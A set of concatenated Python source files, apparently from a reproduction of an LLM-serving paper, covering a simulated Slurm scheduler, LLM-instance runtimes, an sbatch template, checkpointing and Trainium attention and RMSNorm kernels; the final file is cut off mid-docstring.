    def register(self, inst: InstanceRuntime) -> None:
        self._by_addr[(inst.job.node, inst.port)] = inst

    def deregister(self, inst: InstanceRuntime) -> None:
        self._by_addr.pop((inst.job.node, inst.port), None)

    def lookup(self, node: str, port: int) -> Optional[InstanceRuntime]:
        return self._by_addr.get((node, port))

    def all(self) -> list[InstanceRuntime]:
        return list(self._by_addr.values())
