"""LLM-server instances living inside Slurm jobs.

When the Chat AI scheduler submits a service job, the job's payload carries
the model name and port; on job start an :class:`InstanceRuntime` boots
(LOADING for ``load_time`` sim-seconds — the paper reports up to ~10 min for
70B models — then READY) and serves requests on ``(node, port)``.

Two backends:
  * ``LatencyModelBackend`` — calibrated first-token/per-token latencies
    (paper Table 1/2 constants) for large-scale simulation,
  * ``JaxEngineBackend`` — drives the real JAX serving engine, used by the
    end-to-end examples.
"""
from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from enum import Enum
from typing import Callable, Iterator, Optional

from repro.slurmlite.clock import SimClock
from repro.slurmlite.cluster import Job, SlurmCluster


class InstanceState(str, Enum):
    LOADING = "loading"
    READY = "ready"
    DEAD = "dead"


@dataclass
class Request:
    request_id: int
    model: str
    prompt_tokens: int
    max_new_tokens: int
    stream: bool = False
    payload: dict = field(default_factory=dict)


@dataclass
class Response:
    request_id: int
    status: int
    tokens: list = field(default_factory=list)
    first_token_time: Optional[float] = None
    finish_time: Optional[float] = None
    error: str = ""


class Backend:
    def infer(self, inst: "InstanceRuntime", req: Request,
              done: Callable[[Response], None],
              on_chunk: Optional[Callable] = None) -> None:
        raise NotImplementedError


class LatencyModelBackend(Backend):
    """Token-latency model: first token after ``first_token_s`` plus queueing;
    subsequent tokens at ``per_token_s``; concurrency beyond
    ``max_concurrency`` queues (continuous batching approximated by a
    concurrency-dependent slowdown, matching the paper's throughput ladder).
    """

    def __init__(self, first_token_s: float = 0.0326,
                 per_token_s: float = 0.035, max_concurrency: int = 64,
                 batching_slowdown: float = 0.35):
        self.first_token_s = first_token_s
        self.per_token_s = per_token_s
        self.max_concurrency = max_concurrency
        self.batching_slowdown = batching_slowdown
        self._queue: list = []

    def infer(self, inst, req, done, on_chunk=None):
        if inst.active >= self.max_concurrency:
            # continuous-batching admission control: excess requests queue
            self._queue.append((req, done, on_chunk))
            return
        self._run(inst, req, done, on_chunk)

    def _run(self, inst, req, done, on_chunk=None):
        clock = inst.clock
        start = clock.now()
        inst.active += 1
        conc = min(inst.active, self.max_concurrency)
        # continuous batching: per-token time degrades sub-linearly
        per_tok = self.per_token_s * (1 + self.batching_slowdown * (conc - 1))
        t_first = self.first_token_s + 0.001 * req.prompt_tokens / 1000
        t_total = t_first + per_tok * max(req.max_new_tokens - 1, 0)

        if req.stream and on_chunk is not None:
            for i in range(req.max_new_tokens):
                clock.schedule(t_first + per_tok * i,
                               (lambda i=i: on_chunk((i, clock.now()))))

        def finish():
            inst.active -= 1
            done(Response(req.request_id, 200,
                          tokens=list(range(req.max_new_tokens)),
                          first_token_time=start + t_first,
                          finish_time=clock.now()))
            if self._queue and inst.active < self.max_concurrency:
                nreq, ndone, nchunk = self._queue.pop(0)
                self._run(inst, nreq, ndone, nchunk)
        clock.schedule(t_total, finish)


class JaxEngineBackend(Backend):
    """Runs a real ``repro.serving.engine.Engine`` synchronously."""

    def __init__(self, engine):
        self.engine = engine

    def infer(self, inst, req, done):
        start = inst.clock.now()
        out = self.engine.generate(
            prompt=req.payload.get("prompt_ids"),
            max_new_tokens=req.max_new_tokens,
            temperature=req.payload.get("temperature", 0.0),
        )
        done(Response(req.request_id, 200, tokens=list(out),
                      first_token_time=start, finish_time=inst.clock.now()))


class InstanceRuntime:
    _ids = itertools.count(1)

    def __init__(self, clock: SimClock, job: Job, model: str, port: int,
                 load_time: float, backend: Backend):
        self.instance_id = next(self._ids)
        self.clock = clock
        self.job = job
        self.model = model
        self.port = port
        self.state = InstanceState.LOADING
        self.backend = backend
        self.active = 0          # in-flight requests
        self.served = 0
        clock.schedule(load_time, self._ready)

    def _ready(self):
        if self.state == InstanceState.LOADING:
            self.state = InstanceState.READY

    def kill(self):
        self.state = InstanceState.DEAD

    # HTTP-ish surface -------------------------------------------------
    def probe(self) -> int:
        """GET /health"""
        return 200 if self.state == InstanceState.READY else 503

    def infer(self, req: Request, done: Callable[[Response], None],
              on_chunk: Optional[Callable] = None) -> None:
        if self.state != InstanceState.READY:
            done(Response(req.request_id, 503, error="loading"))
            return
        self.served += 1
        try:
            self.backend.infer(self, req, done, on_chunk=on_chunk)
        except TypeError:   # backends without streaming support
            self.backend.infer(self, req, done)


class InstanceRegistry:
    """Maps (node, port) -> live instance; the sim-side 'network'."""

    def __init__(self):
        self._by_addr: dict[tuple[str, int], InstanceRuntime] = {}

    def register(self, inst: InstanceRuntime) -> None:
        self._by_addr[(inst.job.node, inst.port)] = inst

    def deregister(self, inst: InstanceRuntime) -> None:
        self._by_addr.pop((inst.job.node, inst.port), None)

    def lookup(self, node: str, port: int) -> Optional[InstanceRuntime]:
        return self._by_addr.get((node, port))

    def all(self) -> list[InstanceRuntime]:
        return list(self._by_addr.values())
