"""Deterministic discrete-event clock for the Slurm/service simulation.

The whole Chat AI stack (scheduler ticks, keep-alive pings, model load
delays, request service times) runs against this clock so system tests and
the paper-table benchmarks are reproducible to the microsecond.
"""
from __future__ import annotations

import heapq
import itertools
import time
from dataclasses import dataclass, field
from typing import Callable


@dataclass(order=True)
class _Event:
    t: float
    seq: int
    fn: Callable = field(compare=False)


class SimClock:
    def __init__(self, start: float = 0.0):
        self._t = start
        self._q: list[_Event] = []
        self._seq = itertools.count()

    def now(self) -> float:
        return self._t

    def schedule(self, delay: float, fn: Callable) -> None:
        heapq.heappush(self._q, _Event(self._t + delay, next(self._seq), fn))

    def schedule_at(self, t: float, fn: Callable) -> None:
        heapq.heappush(self._q, _Event(max(t, self._t), next(self._seq), fn))

    def run_until(self, t: float) -> None:
        while self._q and self._q[0].t <= t:
            ev = heapq.heappop(self._q)
            self._t = ev.t
            ev.fn()
        self._t = max(self._t, t)

    def run_for(self, dt: float) -> None:
        self.run_until(self._t + dt)

    def drain(self, max_t: float = float("inf")) -> None:
        while self._q and self._q[0].t <= max_t:
            ev = heapq.heappop(self._q)
            self._t = ev.t
            ev.fn()


class WallClock:
    """Same interface against real time (for actual deployment use)."""

    def __init__(self):
        self._t0 = time.monotonic()

    def now(self) -> float:
        return time.monotonic() - self._t0

    def schedule(self, delay: float, fn: Callable) -> None:  # pragma: no cover
        raise NotImplementedError(
            "WallClock scheduling requires a thread/async runner; "
            "production deployments drive ticks from cron/keepalives.")
