"""Real sbatch script emission — the deployment path.

The same ``ServiceSpec`` that drives the simulation renders to the sbatch
script the paper's scheduler submits on the KISSKI platform (functional
account, GRES GPUs, vLLM-style server bound to a scheduler-chosen port).
"""
from __future__ import annotations

TEMPLATE = """#!/bin/bash
#SBATCH --job-name={job_name}
#SBATCH --partition={partition}
#SBATCH --gres=gpu:{gpus}
#SBATCH --time={minutes}
#SBATCH --output={log_dir}/%x_%j.log
#SBATCH --signal=B:TERM@120

set -euo pipefail
export MODEL="{model}"
export PORT={port}

# announce (node, port) to the scheduler's routing table directory
echo "$(hostname) $PORT" > "{state_dir}/{job_name}.addr"

exec python -m repro.launch.serve \\
    --arch "$MODEL" \\
    --host 0.0.0.0 --port "$PORT" \\
    --max-batch-size {max_batch} \\
    --kv-block-size {kv_block}
"""


def render_sbatch(*, job_name: str, model: str, port: int, gpus: int,
                  time_limit_s: float, partition: str = "kisski",
                  log_dir: str = "/scratch/chat-ai/logs",
                  state_dir: str = "/scratch/chat-ai/state",
                  max_batch: int = 64, kv_block: int = 128) -> str:
    return TEMPLATE.format(
        job_name=job_name, model=model, port=port, gpus=gpus,
        minutes=max(1, int(time_limit_s // 60)), partition=partition,
        log_dir=log_dir, state_dir=state_dir, max_batch=max_batch,
        kv_block=kv_block)
