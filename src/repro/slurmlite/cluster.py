"""slurmlite: a faithful, deterministic Slurm substrate.

Implements the subset of Slurm semantics the paper's scheduler script
depends on: ``sbatch`` (submit, returns job id), ``squeue`` (pending +
running jobs with name/node/state), ``scancel``, GRES GPU accounting,
FIFO+backfill node assignment, job time limits, node failures/drain, and
priority — all against a :class:`SimClock`.

It also emits *real* sbatch scripts (``sbatch.py``) so the same scheduler
config can drive an actual cluster.
"""
from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from enum import Enum
from typing import Callable, Optional

from repro.slurmlite.clock import SimClock


class JobState(str, Enum):
    PENDING = "PD"
    RUNNING = "R"
    COMPLETING = "CG"
    COMPLETED = "CD"
    FAILED = "F"
    CANCELLED = "CA"
    TIMEOUT = "TO"


ACTIVE = (JobState.PENDING, JobState.RUNNING)


@dataclass
class JobSpec:
    name: str
    gres_gpus: int = 1
    time_limit: float = 3600.0          # seconds
    priority: int = 0
    payload: dict = field(default_factory=dict)   # opaque to slurm
    on_start: Optional[Callable] = None           # fn(job) at start
    on_end: Optional[Callable] = None             # fn(job) at end


@dataclass
class Job:
    job_id: int
    spec: JobSpec
    state: JobState = JobState.PENDING
    submit_time: float = 0.0
    start_time: Optional[float] = None
    end_time: Optional[float] = None
    node: Optional[str] = None

    @property
    def name(self) -> str:
        return self.spec.name


@dataclass
class Node:
    name: str
    gpus: int
    up: bool = True
    drained: bool = False
    gpus_used: int = 0

    @property
    def gpus_free(self) -> int:
        if not self.up or self.drained:
            return 0
        return self.gpus - self.gpus_used


class SlurmCluster:
    """The cluster + controller (slurmctld-alike)."""

    def __init__(self, clock: SimClock, nodes: list[Node],
                 schedule_interval: float = 1.0):
        self.clock = clock
        self.nodes = {n.name: n for n in nodes}
        self.jobs: dict[int, Job] = {}
        self._ids = itertools.count(1000)
        self._interval = schedule_interval
        self._tick_scheduled = False

    # ----- user-facing CLI equivalents -----

    def sbatch(self, spec: JobSpec) -> int:
        job = Job(next(self._ids), spec, submit_time=self.clock.now())
        self.jobs[job.job_id] = job
        self._kick()
        return job.job_id

    def squeue(self, name_prefix: str | None = None) -> list[Job]:
        out = [j for j in self.jobs.values() if j.state in ACTIVE]
        if name_prefix is not None:
            out = [j for j in out if j.name.startswith(name_prefix)]
        return sorted(out, key=lambda j: j.job_id)

    def scancel(self, job_id: int) -> bool:
        j = self.jobs.get(job_id)
        if j is None or j.state not in ACTIVE:
            return False
        self._finish(j, JobState.CANCELLED)
        return True

    def sinfo(self) -> list[Node]:
        return list(self.nodes.values())

    def remaining_time(self, job_id: int) -> Optional[float]:
        """Seconds of walltime left before the job's time limit fires
        (``squeue -o %L``).  ``None`` for jobs that are not RUNNING —
        a pending job has no start time to count down from."""
        j = self.jobs.get(job_id)
        if j is None or j.state != JobState.RUNNING or j.start_time is None:
            return None
        return max(0.0, j.start_time + j.spec.time_limit - self.clock.now())

    def update_time_limit(self, job_id: int, time_limit: float) -> bool:
        """``scontrol update TimeLimit=...`` — change a job's walltime in
        place.  Shortening a running job's limit schedules an earlier
        timeout; the original timeout event stays queued but re-checks the
        *current* limit when it fires, so lengthening works too."""
        j = self.jobs.get(job_id)
        if j is None or j.state not in ACTIVE:
            return False
        j.spec.time_limit = time_limit
        if j.state == JobState.RUNNING and j.start_time is not None:
            self.clock.schedule_at(j.start_time + time_limit,
                                   lambda: self._timeout(job_id))
        return True

    # ----- failure injection -----

    def fail_node(self, name: str) -> None:
        node = self.nodes[name]
        node.up = False
        for j in list(self.jobs.values()):
            if j.state == JobState.RUNNING and j.node == name:
                self._finish(j, JobState.FAILED)

    def restore_node(self, name: str) -> None:
        self.nodes[name].up = True
        self._kick()

    def drain_node(self, name: str, drain: bool = True) -> None:
        self.nodes[name].drained = drain
        if not drain:
            self._kick()

    # ----- internal scheduling (FIFO + backfill) -----

    def _kick(self) -> None:
        if not self._tick_scheduled:
            self._tick_scheduled = True
            self.clock.schedule(0.0, self._schedule_pass)

    def _schedule_pass(self) -> None:
        self._tick_scheduled = False
        pending = [j for j in self.jobs.values()
                   if j.state == JobState.PENDING]
        pending.sort(key=lambda j: (-j.spec.priority, j.submit_time, j.job_id))
        blocked_gpus: Optional[int] = None
        for job in pending:
            need = job.spec.gres_gpus
            if blocked_gpus is not None and need >= blocked_gpus:
                continue       # backfill: only smaller jobs may jump ahead
            node = self._fit(need)
            if node is None:
                # head-of-queue blocks; remember its size for backfill rule
                if blocked_gpus is None:
                    blocked_gpus = need
                continue
            self._start(job, node)

    def _fit(self, gpus: int) -> Optional[Node]:
        best = None
        for n in self.nodes.values():
            if n.gpus_free >= gpus:
                if best is None or n.gpus_free < best.gpus_free:
                    best = n   # best-fit packing
        return best

    def _start(self, job: Job, node: Node) -> None:
        job.state = JobState.RUNNING
        job.node = node.name
        job.start_time = self.clock.now()
        node.gpus_used += job.spec.gres_gpus
        jid = job.job_id
        self.clock.schedule(job.spec.time_limit, lambda: self._timeout(jid))
        if job.spec.on_start:
            job.spec.on_start(job)

    def _timeout(self, job_id: int) -> None:
        j = self.jobs.get(job_id)
        if j is None or j.state != JobState.RUNNING or j.start_time is None:
            return
        # the limit may have been updated after this event was queued:
        # only the event that matches the current limit may finish the job
        if self.clock.now() + 1e-9 < j.start_time + j.spec.time_limit:
            return
        self._finish(j, JobState.TIMEOUT)

    def complete(self, job_id: int, ok: bool = True) -> None:
        """A job's own process exits (e.g. LLM server crash)."""
        j = self.jobs.get(job_id)
        if j is not None and j.state == JobState.RUNNING:
            self._finish(j, JobState.COMPLETED if ok else JobState.FAILED)

    def _finish(self, job: Job, state: JobState) -> None:
        was_running = job.state == JobState.RUNNING
        job.state = state
        job.end_time = self.clock.now()
        if was_running and job.node:
            node = self.nodes[job.node]
            node.gpus_used = max(0, node.gpus_used - job.spec.gres_gpus)
        if job.spec.on_end:
            job.spec.on_end(job)
        self._kick()

    # ----- utilization accounting -----

    def gpu_totals(self) -> tuple[int, int]:
        up = [n for n in self.nodes.values() if n.up and not n.drained]
        return (sum(n.gpus_used for n in up), sum(n.gpus for n in up))
