"""Sharded pytree checkpointing (npz shards + json manifest, no orbax).

Layout:  <dir>/manifest.json  +  <dir>/shard_<i>.npz
Leaves are flattened by path; large leaves get their own shard.  Works for
params and optimizer state alike; restore validates structure and shapes.
"""
from __future__ import annotations

import json
import os
from typing import Any

import jax
import numpy as np

_SHARD_BYTES = 512 * 1024 * 1024


def _flatten(tree) -> dict[str, Any]:
    flat = {}
    for path, leaf in jax.tree_util.tree_flatten_with_path(tree)[0]:
        key = "/".join(
            str(getattr(p, "key", getattr(p, "idx", p))) for p in path)
        flat[key] = leaf
    return flat


def save(path: str, tree, step: int | None = None) -> None:
    os.makedirs(path, exist_ok=True)
    flat = {k: np.asarray(v) for k, v in _flatten(tree).items()}
    shards: list[list[str]] = [[]]
    size = 0
    for k in sorted(flat):
        nbytes = flat[k].nbytes
        if size + nbytes > _SHARD_BYTES and shards[-1]:
            shards.append([])
            size = 0
        shards[-1].append(k)
        size += nbytes
    manifest = {
        "step": step,
        "leaves": {k: {"shard": i, "shape": list(flat[k].shape),
                       "dtype": str(flat[k].dtype)}
                   for i, keys in enumerate(shards) for k in keys},
        "num_shards": len(shards),
    }
    for i, keys in enumerate(shards):
        np.savez(os.path.join(path, f"shard_{i}.npz"),
                 **{k: flat[k] for k in keys})
    with open(os.path.join(path, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)


def restore(path: str, like) -> tuple[Any, int | None]:
    """Restore into the structure of ``like`` (pytree of arrays/structs)."""
    with open(os.path.join(path, "manifest.json")) as f:
        manifest = json.load(f)
    data = {}
    for i in range(manifest["num_shards"]):
        with np.load(os.path.join(path, f"shard_{i}.npz")) as z:
            data.update({k: z[k] for k in z.files})
    flat_like = _flatten(like)
    missing = set(flat_like) - set(data)
    extra = set(data) - set(flat_like)
    if missing or extra:
        raise ValueError(f"checkpoint mismatch: missing={sorted(missing)[:5]} "
                         f"extra={sorted(extra)[:5]}")
    for k, leaf in flat_like.items():
        if tuple(data[k].shape) != tuple(leaf.shape):
            raise ValueError(f"shape mismatch at {k}: "
                             f"{data[k].shape} vs {leaf.shape}")
    leaves, treedef = jax.tree_util.tree_flatten(like)
    keys = list(_flatten(like))
    restored = treedef.unflatten([data[k] for k in keys])
    return restored, manifest.get("step")
