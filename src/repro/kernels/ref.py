"""Pure-jnp oracles for every Bass kernel (CoreSim tests assert against
these, shape/dtype-swept under hypothesis/pytest parametrization)."""
from __future__ import annotations

import jax.numpy as jnp
import numpy as np


def paged_decode_attention_ref(q, k_pool, v_pool, block_table, lengths,
                               block_size: int):
    """Reference paged GQA decode attention.

    q           [B, H, hd]
    k_pool/v_pool [NB, bs, KV, hd]
    block_table [B, max_blocks] int32 (entries past the sequence are ignored)
    lengths     [B] int32
    returns     [B, H, hd]
    """
    B, H, hd = q.shape
    NB, bs, KV, _ = k_pool.shape
    g = H // KV
    S_max = block_table.shape[1] * bs

    # gather [B, S_max, KV, hd]
    flat_idx = (block_table[:, :, None] * bs
                + jnp.arange(bs)[None, None, :]).reshape(B, S_max)
    k = k_pool.reshape(NB * bs, KV, hd)[flat_idx]
    v = v_pool.reshape(NB * bs, KV, hd)[flat_idx]

    qg = q.reshape(B, KV, g, hd)
    scores = jnp.einsum("bkgd,bskd->bkgs", qg, k) / jnp.sqrt(
        jnp.asarray(hd, jnp.float32))
    mask = jnp.arange(S_max)[None, :] < lengths[:, None]      # [B, S]
    scores = jnp.where(mask[:, None, None, :], scores, -1e30)
    p = jnp.exp(scores - scores.max(-1, keepdims=True))
    p = p / p.sum(-1, keepdims=True)
    o = jnp.einsum("bkgs,bskd->bkgd", p, v)
    return o.reshape(B, H, hd)


def rmsnorm_ref(x, scale, eps: float = 1e-5):
    """x [N, D], scale [D]."""
    x32 = x.astype(jnp.float32)
    var = jnp.mean(jnp.square(x32), axis=-1, keepdims=True)
    return x32 / jnp.sqrt(var + eps) * scale


def swiglu_ref(x, w_gate, w_up, w_down):
    """Gated MLP block: x [N, D] -> [N, D]."""
    import jax
    h = jax.nn.silu(x @ w_gate) * (x @ w_up)
    return h @ w_down
