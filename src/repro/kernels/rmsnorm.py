"""Fused RMSNorm Bass kernel.

Every transformer block in the framework applies RMSNorm twice per
sub-layer; in decode it sits on the latency path.  The Trainium mapping
puts 128 rows (tokens) on SBUF partitions and the model dim on the free
axis, fusing square → reduce → rsqrt → scale into one SBUF-resident pass
(vs four HBM round-trips if left to pointwise ops):

  x [N, D] fp32, scale [D] fp32 -> out [N, D] fp32
  out[n] = x[n] / sqrt(mean(x[n]^2) + eps) * scale

N must be a multiple of 128 (the ops.py wrapper pads).
"""
from __future__ import annotations

from contextlib import ExitStack

import concourse.bass as bass
import concourse.mybir as mybir
import concourse.tile as tile
from concourse.bass2jax import bass_jit

P = 128
F32 = mybir.dt.float32
AX = mybir.AxisListType.X
ALU = mybir.AluOpType
ACT = mybir.ActivationFunctionType


def _rmsnorm_kernel(nc: bass.Bass, x: bass.DRamTensorHandle,
                    scale: bass.DRamTensorHandle, *, eps: float):
    N, D = x.shape
    assert N % P == 0
    n_tiles = N // P
    out = nc.dram_tensor("out", [N, D], F32, kind="ExternalOutput")

    with tile.TileContext(nc) as tc, ExitStack() as ctx:
        const = ctx.enter_context(tc.tile_pool(name="const", bufs=1))
        pool = ctx.enter_context(tc.tile_pool(name="rows", bufs=2))

        # scale broadcast across partitions once
        s_row = const.tile([1, D], F32)
        nc.default_dma_engine.dma_start(s_row[:], scale[None, :])
        s_b = const.tile([P, D], F32)
        nc.gpsimd.partition_broadcast(s_b[:], s_row[:])
        epst = const.tile([P, 1], F32)
        nc.vector.memset(epst[:], eps)

        for t in range(n_tiles):
            xt = pool.tile([P, D], F32, name="xt")
            nc.default_dma_engine.dma_start(xt[:], x[t * P:(t + 1) * P, :])
            sq = pool.tile([P, D], F32, name="sq")
            nc.scalar.activation(sq[:], xt[:], ACT.Square)
            ms = pool.tile([P, 1], F32, name="ms")
            nc.vector.reduce_sum(ms[:], sq[:], axis=AX)
            # rinv = 1/sqrt(mean + eps)  (Rsqrt activation is banned for
            # accuracy; Sqrt + vector reciprocal is the sanctioned pair)
            rt = pool.tile([P, 1], F32, name="rt")
            nc.scalar.activation(rt[:], ms[:], ACT.Sqrt,
                                 scale=1.0 / D, bias=epst[:])
            rinv = pool.tile([P, 1], F32, name="rinv")
            nc.vector.reciprocal(rinv[:], rt[:])
            y = pool.tile([P, D], F32, name="y")
            nc.vector.tensor_scalar(y[:], xt[:], rinv[:, :1], None,
                                    op0=ALU.mult)
            nc.vector.tensor_mul(y[:], y[:], s_b[:])
            nc.default_dma_engine.dma_start(out[t * P:(t + 1) * P, :], y[:])
    return (out,)


_jit_cache: dict = {}


def rmsnorm_call(x, scale, eps: float = 1e-5):
    if eps not in _jit_cache:
        import functools
        _jit_cache[eps] = bass_jit(
            functools.partial(_rmsnorm_kernel, eps=eps))
    return _jit_cache[eps](x, scale)
