"""Trainium-native paged decode attention (the LLM-server hot loop).

The paper's LLM server layer is vLLM (paper §5.7), whose core mechanism is
PagedAttention (Kwo+23): decode attention over a block-pooled KV cache.  The
CUDA kernel gathers KV blocks with per-warp loads; the Trainium adaptation
here replaces that with **DMA-driven row gather** (HBM→SBUF `indirect_dma`)
and maps the math onto the 128-partition geometry (DESIGN.md §Hardware
adaptation):

  * KV blocks are 128 tokens — one SBUF partition per token, so one gathered
    block is exactly one [128, KV·hd] tile; the block table never splits a
    tile, and all KV heads of a block arrive in a single indirect DMA
    (amortized across the grouped-query heads that reuse it).
  * per (block, kv-head): scores = matmul(lhsT=qᵀ [hd, g], rhs=kᵀ
    [hd, 128]) on the tensor engine (g = H/KV grouped queries), online
    softmax (running max/denominator) on the vector engine, then
    o += pᵀ @ v with a tensor-engine transpose of p in between — the
    standard flash-decode dataflow, tiled at 128 tokens.
  * sequence-length masking is an additive bias row (0 / -1e30) DMAed once
    per sequence and partition-broadcast per tile, so padded tail tokens and
    garbage rows gathered for out-of-range indices never contribute.

Kernel inputs (prepared by ``ops.paged_decode_attention``):
  q_t       [B, hd, H]   fp32  (queries, transposed for stationary loads)
  k_pool    [T, KV*hd]   fp32  (T = num_blocks*128 pooled token rows)
  v_pool    [T, KV*hd]   fp32
  token_idx [B, S_max]   int32 (pool row per position; padded with 0)
  neg_mask  [B, S_max]   fp32  (0 for valid positions, -1e30 beyond length)
Output:
  o         [B, H, hd]   fp32
"""
from __future__ import annotations

import math
from contextlib import ExitStack

import concourse.bass as bass
import concourse.mybir as mybir
import concourse.tile as tile
from concourse.bass2jax import bass_jit
from concourse.masks import make_identity

P = 128          # SBUF partitions == tokens per KV block
NEG_INF = -1.0e30

F32 = mybir.dt.float32
I32 = mybir.dt.int32
AX = mybir.AxisListType.X
ALU = mybir.AluOpType
ACT = mybir.ActivationFunctionType


def _decode_attention_kernel(nc: bass.Bass,
                             q_t: bass.DRamTensorHandle,
                             k_pool: bass.DRamTensorHandle,
                             v_pool: bass.DRamTensorHandle,
                             token_idx: bass.DRamTensorHandle,
                             neg_mask: bass.DRamTensorHandle,
                             *, num_kv_heads: int):
    B, hd, H = q_t.shape
    T, KVhd = k_pool.shape
    KV = num_kv_heads
    assert KVhd == KV * hd and H % KV == 0
    assert hd <= P and H <= P, "one sequence's heads live on one partition set"
    g = H // KV                       # grouped queries per kv head
    _, S_max = token_idx.shape
    assert S_max % P == 0
    n_tiles = S_max // P
    scale = 1.0 / math.sqrt(hd)

    out = nc.dram_tensor("o", [B, H, hd], F32, kind="ExternalOutput")

    with tile.TileContext(nc) as tc, ExitStack() as ctx:
        const = ctx.enter_context(tc.tile_pool(name="const", bufs=1))
        seqp = ctx.enter_context(tc.tile_pool(name="seq", bufs=2))
        kvp = ctx.enter_context(tc.tile_pool(name="kv", bufs=2))
        sm = ctx.enter_context(tc.tile_pool(name="softmax", bufs=2))
        psum = ctx.enter_context(tc.tile_pool(
            name="psum", bufs=2, space=bass.MemorySpace.PSUM))

        ident = const.tile([P, P], F32)
        make_identity(nc, ident[:])

        for b in range(B):
            # token indices for this sequence: one pool row id per partition
            idx = seqp.tile([P, n_tiles], I32, name=f"idx{b}")
            nc.default_dma_engine.dma_start(idx[:], token_idx[b].rearrange(
                "(t p) -> p t", p=P))
            mask = seqp.tile([1, S_max], F32, name=f"mask{b}")
            nc.default_dma_engine.dma_start(mask[:], neg_mask[b][None, :])
            # stationary queries, all heads: [hd, H]
            q_tile = seqp.tile([hd, H], F32, name=f"q{b}")
            nc.default_dma_engine.dma_start(q_tile[:], q_t[b])

            # online-softmax state, one tile set per kv-head group
            # (partition-sliced views of one [H, .] tile are illegal: SBUF
            # APs must start on 32-partition boundaries)
            m_run = [sm.tile([g, 1], F32, name=f"m_run{k}")
                     for k in range(KV)]
            l_run = [sm.tile([g, 1], F32, name=f"l_run{k}")
                     for k in range(KV)]
            o_acc = [sm.tile([g, hd], F32, name=f"o_acc{k}")
                     for k in range(KV)]
            for k in range(KV):
                nc.vector.memset(m_run[k][:], NEG_INF)
                nc.vector.memset(l_run[k][:], 0.0)
                nc.vector.memset(o_acc[k][:], 0.0)

            for t in range(n_tiles):
                # -- gather one 128-token KV block, all heads, one DMA each
                k_gather = kvp.tile([P, KVhd], F32, name="k_gather")
                v_gather = kvp.tile([P, KVhd], F32, name="v_gather")
                off = bass.IndirectOffsetOnAxis(ap=idx[:, t:t + 1], axis=0)
                nc.gpsimd.indirect_dma_start(
                    out=k_gather[:], out_offset=None,
                    in_=k_pool[:], in_offset=off)
                nc.gpsimd.indirect_dma_start(
                    out=v_gather[:], out_offset=None,
                    in_=v_pool[:], in_offset=off)
                # stage through the vector engine: the tile scheduler does
                # not track indirect-DMA completion for tensor-engine reads
                # (PE consumers of the raw gather deadlock under CoreSim)
                k_tile = kvp.tile([P, KVhd], F32, name="k_tile")
                v_tile = kvp.tile([P, KVhd], F32, name="v_tile")
                nc.vector.tensor_copy(k_tile[:], k_gather[:])
                nc.vector.tensor_copy(v_tile[:], v_gather[:])

                # materialize this tile's mask row across partitions once;
                # every kv-head group reads its [:g] slice
                mask_b = kvp.tile([P, P], F32, name="mask_b")
                nc.gpsimd.partition_broadcast(
                    mask_b[:], mask[:, t * P:(t + 1) * P])

                for kvh in range(KV):
                    col = kvh * hd
                    m_r, l_r, o_a = m_run[kvh], l_run[kvh], o_acc[kvh]
                    # -- kT via tensor-engine transpose: [P, hd] -> [hd, P]
                    kT_ps = psum.tile([hd, P], F32,
                                      name="kT_ps")
                    nc.tensor.transpose(kT_ps[:], k_tile[:, col:col + hd],
                                        ident[:])
                    kT = kvp.tile([hd, P], F32, name="kT")
                    nc.scalar.copy(kT[:], kT_ps[:])

                    # -- scores [g, P] = (qᵀ)ᵀ @ kT, scaled --
                    s_ps = psum.tile([g, P], F32, name="s_ps")
                    nc.tensor.matmul(
                        s_ps[:], q_tile[:, kvh * g:(kvh + 1) * g], kT[:],
                        start=True, stop=True)
                    s = sm.tile([g, P], F32, name="s")
                    nc.scalar.activation(s[:], s_ps[:], ACT.Copy,
                                         scale=scale)
                    # length mask (one bias row broadcast over g query rows)
                    nc.vector.tensor_add(s[:], s[:], mask_b[:g])

                    # -- online softmax update --
                    m_new = sm.tile([g, 1], F32, name="m_new")
                    nc.vector.reduce_max(m_new[:], s[:], axis=AX)
                    nc.vector.tensor_max(m_new[:], m_new[:], m_r[:])
                    alpha = sm.tile([g, 1], F32, name="alpha")
                    nc.vector.tensor_sub(alpha[:], m_r[:], m_new[:])
                    nc.scalar.activation(alpha[:], alpha[:], ACT.Exp)
                    neg_m = sm.tile([g, 1], F32, name="neg_m")
                    nc.vector.tensor_scalar_mul(neg_m[:], m_new[:], -1.0)
                    p = sm.tile([g, P], F32, name="p")
                    nc.scalar.activation(p[:], s[:], ACT.Exp, bias=neg_m[:])
                    nc.vector.tensor_copy(m_r[:], m_new[:])

                    sum_p = sm.tile([g, 1], F32, name="sum_p")
                    nc.vector.reduce_sum(sum_p[:], p[:], axis=AX)
                    nc.vector.tensor_scalar(l_r[:], l_r[:], alpha[:, :1],
                                            None, op0=ALU.mult)
                    nc.vector.tensor_add(l_r[:], l_r[:], sum_p[:])

                    # -- o_acc = o_acc*alpha + pᵀᵀ @ v (flash rescale) --
                    nc.vector.tensor_scalar(o_a[:], o_a[:], alpha[:, :1],
                                            None, op0=ALU.mult)
                    pT_ps = psum.tile([P, g], F32,
                                      name="pT_ps")
                    nc.tensor.transpose(pT_ps[:], p[:], ident[:g, :g])
                    pT = sm.tile([P, g], F32, name="pT")
                    nc.scalar.copy(pT[:], pT_ps[:])
                    od_ps = psum.tile([g, hd], F32,
                                      name="od_ps")
                    nc.tensor.matmul(od_ps[:], pT[:],
                                     v_tile[:, col:col + hd],
                                     start=True, stop=True)
                    nc.vector.tensor_add(o_a[:], o_a[:], od_ps[:])

            # normalize and write out: o = o_acc / l
            for k in range(KV):
                l_inv = sm.tile([g, 1], F32, name=f"l_inv{k}")
                nc.vector.reciprocal(l_inv[:], l_run[k][:])
                nc.vector.tensor_scalar(o_acc[k][:], o_acc[k][:],
                                        l_inv[:, :1], None, op0=ALU.mult)
                nc.default_dma_engine.dma_start(
                    out[b, k * g:(k + 1) * g, :], o_acc[k][:])
    return (out,)


_jit_cache: dict = {}


def decode_attention_call(q_t, k_pool, v_pool, token_idx, neg_mask,
                          num_kv_heads: int):
    """bass_jit entrypoint (cached per kv-head count)."""
    if num_kv_heads not in _jit_cache:
        import functools
        _jit_cache[num_kv_heads] = bass_jit(
            functools.partial(_decode_attention_kernel,
                              num_kv_heads=num_kv_heads))
    return _jit_cache[num_kv_heads](q_t, k_pool, v_pool, token_idx, neg_mask)
