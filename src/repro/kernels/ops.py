"""JAX-facing wrappers around the Bass kernels (the ``bass_call`` layer).

``paged_decode_attention`` mirrors the engine's logical interface (block
